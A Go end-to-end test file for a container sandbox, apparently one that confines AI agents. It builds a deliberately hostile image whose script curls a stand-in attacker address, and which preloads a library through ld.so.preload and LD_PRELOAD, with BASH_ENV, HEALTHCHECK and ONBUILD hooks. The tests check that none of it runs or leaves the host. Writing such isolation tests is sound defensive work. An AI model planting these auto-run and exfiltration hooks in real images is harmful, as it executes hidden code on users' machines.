//go:build e2e

package e2e

import (
	"context"
	"debug/elf"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostileImage has everything that an image can have run by itself. All of it
// leaves a file in /project and sends something.
func hostileImage(t *testing.T) string {
	t.Helper()
	const tag = "localhost/aisb-e2e-hostile:1"
	dir := project(t)
	for name, text := range map[string]string{
		"evil.so":       string(evilLibrary(t)),
		"ld.so.preload": "/usr/lib/evil.so\n",
		"evil.sh":       "#!/bin/sh\ntouch /project/ran\ncurl -s --max-time 1 --noproxy '*' http://" + evilAddr + "/evil\nexec \"$@\"\n",
		"Containerfile": "FROM " + testImage + `
COPY --chmod=0755 evil.so /usr/lib/evil.so
COPY --chmod=0755 evil.sh /usr/local/bin/evil
COPY --chmod=0644 ld.so.preload /etc/ld.so.preload
ENTRYPOINT ["/usr/local/bin/evil"]
CMD ["/usr/local/bin/evil"]
ENV LD_PRELOAD=/usr/lib/evil.so LD_AUDIT=/usr/lib/evil.so LD_LIBRARY_PATH=/evil LD_DEBUG=libs LD_DEBUG_OUTPUT=/project/ran
ENV EVIL=1 http_proxy=http://192.0.2.1:1 BASH_ENV=/usr/local/bin/evil ENV=/usr/local/bin/evil PATH=/evil:/usr/bin:/bin GODEBUG=netdns=cgo
HEALTHCHECK --interval=1s CMD /usr/local/bin/evil
ONBUILD RUN /usr/local/bin/evil
SHELL ["/usr/local/bin/evil"]
VOLUME ["/vol", "/usr/libexec", "/home/agent"]
STOPSIGNAL SIGCONT
WORKDIR /etc
USER 1234
`,
	} {
		write(t, dir, name, text)
	}
	asUser(t, "podman", "build", "--layers=false", "--network=none", "--pull=never", "--format=docker", "--tag", tag, dir)
	t.Cleanup(func() { // the test's own context has ended by then
		if out, err := (call{dir: agent.home, bin: "/usr/bin/podman"}).command(context.Background(), "rmi", "--force", tag).CombinedOutput(); err != nil {
			t.Errorf("%v: %s", err, out)
		}
	})
	return tag
}

// wantNothingRan fails the test if anything of the hostile image's has run.
func wantNothingRan(t *testing.T, dir string) {
	t.Helper()
	for _, pattern := range []string{"ran*", "loaded"} {
		if found, _ := filepath.Glob(filepath.Join(dir, pattern)); len(found) > 0 {
			t.Errorf("something of the image's ran: %q", found)
		}
	}
}

// TestHostileImage: nothing of the image's configuration runs or is passed on,
// before the fence or after, and nothing leaves the host.
func TestHostileImage(t *testing.T) {
	tag := hostileImage(t)
	wire := sniff(t)
	args := func(command ...string) []string {
		args := []string{"run", "--image", tag, "--ephemeral-home", "--net-backend", backend, "--resolver", routerAddr, "--allow", "allowed.test", "--"}
		return append(args, command...)
	}
	t.Run("static command", func(t *testing.T) {
		// No program of the image's own runs, and so nothing may load its library.
		c := call{dir: project(t)}
		c.do(t, args("/usr/local/bin/aisb", "version")...).wantStatus(t, 0)
		wantNothingRan(t, c.dir)
		wantNoPacket(t, wire)
	})
	t.Run("command of the image's", func(t *testing.T) {
		// The loader's own file is the image's business, once the fence stands.
		c := call{dir: project(t)}
		o := c.do(t, args("/bin/sh", "-c", "pwd; id -u; env; grep ' /vol ' /proc/self/mountinfo; sleep 2")...)
		o.wantStatus(t, 0)
		wantIn(t, "output", o.stdout, "/project\n1000\n")
		wantNot(t, "output", o.stdout, "LD_", "EVIL", "192.0.2.1", "BASH_ENV", "/evil", "/vol", "GODEBUG")
		if _, err := os.Lstat(filepath.Join(c.dir, "loaded")); err != nil {
			t.Error("the library does not work, so that its absence above shows nothing")
		}
		os.Remove(filepath.Join(c.dir, "loaded"))
		wantNothingRan(t, c.dir)
		wantNoPacket(t, wire)
	})
	t.Run("restarted", func(t *testing.T) {
		gone := wantNothingLeft(t)
		l := call{dir: project(t)}.startAny(t, args("/usr/local/bin/aisb", "gate", "--listen", "127.0.0.1:4000", "--allow", "x.test")...)
		l.waitOut("listening")
		name := containerName(t)
		call{dir: agent.home, bin: "/usr/bin/podman"}.do(t, "restart", "--time=1", name)
		l.wait(runTimeout)
		gone()
		wantNothingRan(t, l.cmd.Dir)
		wantNoPacket(t, wire)
	})
	t.Run("allowed host", func(t *testing.T) {
		o := call{dir: project(t)}.do(t, args("curl", "-sS", "http://allowed.test/")...)
		o.wantStatus(t, 0)
		wantIn(t, "output", o.stdout, "origin GET allowed.test /")
		for _, p := range wire.seen(t) {
			if strings.Contains(p, evilAddr) || strings.Contains(p, "evil") {
				t.Errorf("left the host: %s", p)
			}
		}
	})
}

func wantNoPacket(t *testing.T, wire *capture) {
	t.Helper()
	for _, p := range wire.seen(t) {
		t.Errorf("left the host: %s", p)
	}
}

// TestHostileImageControl: by podman alone all of it does run, and the capture
// sees what it sends; and a packet that is sent in aisb's own container before
// the fence is there is seen too.
func TestHostileImageControl(t *testing.T) {
	tag := hostileImage(t)
	wire := sniff(t)
	dir := project(t)
	asUser(t, "podman", "run", "--rm", "--network=pasta", "--userns=keep-id:uid=1000,gid=1000", "--user=1000",
		"--volume", dir+":/project", "--workdir=/", tag, "/bin/true")
	for _, name := range []string{"ran", "loaded"} {
		if _, err := os.Lstat(filepath.Join(dir, name)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	packets := strings.Join(wire.seen(t), "\n")
	wantIn(t, "what left the host", packets, "protocol 6 ", "protocol 17 ", "to "+evilAddr)

	faults := faultyProject(t, "before", "curl -s --max-time 20 --noproxy '*' http://"+evilAddr+"/early || true")
	o := call{dir: faults, bin: faulty}.aisb(t, append([]string{"--net-backend", "pasta"}, allowed...), "true")
	o.wantStatus(t, 0)
	wantIn(t, "what left the host", strings.Join(wire.seen(t), "\n"), "GET /early")
}

// TestEntryIsStatic: a loader, and with it /etc/ld.so.preload and the variables
// of ld.so(8), would run before the program itself.
func TestEntryIsStatic(t *testing.T) {
	f, err := elf.Open(binary)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP || p.Type == elf.PT_DYNAMIC {
			t.Errorf("it has a segment of type %v", p.Type)
		}
	}
}
